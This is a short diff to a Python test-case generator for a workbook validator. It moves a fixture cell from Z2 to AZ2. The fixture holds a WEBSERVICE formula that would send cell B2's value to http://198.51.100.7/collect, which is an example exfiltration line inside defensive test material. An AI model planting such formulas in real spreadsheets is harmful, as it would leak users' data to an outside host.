@@ -381,9 +381,9 @@ def _(kit: Kit, out: Path) -> None:
 # ---- workbooks: formulas and links ----------------------------------------------------------------------
 
 @case("formula_outside_layout", "WEBSERVICE公式.xlsx", "accepted", "",
-      "版式之外的 Z2 单元格有 =WEBSERVICE(...):不求值、不联网、不入库,签名覆盖的数据未变")
+      "版式之外的 AZ2 单元格有 =WEBSERVICE(...):不求值、不联网、不入库,签名覆盖的数据未变")
 def _(kit: Kit, out: Path) -> None:
-    cell = (b'<c r="Z2" t="str"><f>WEBSERVICE("http://198.51.100.7/collect?d="&amp;B2)</f>'
+    cell = (b'<c r="AZ2" t="str"><f>WEBSERVICE("http://198.51.100.7/collect?d="&amp;B2)</f>'
             b"<v>#VALUE!</v></c></row>")
     rezip(kit.good, out, replace={LEDGER_PART: lambda x: x.replace(b"</row>", cell, 2).replace(cell, b"</row>", 1)})
 
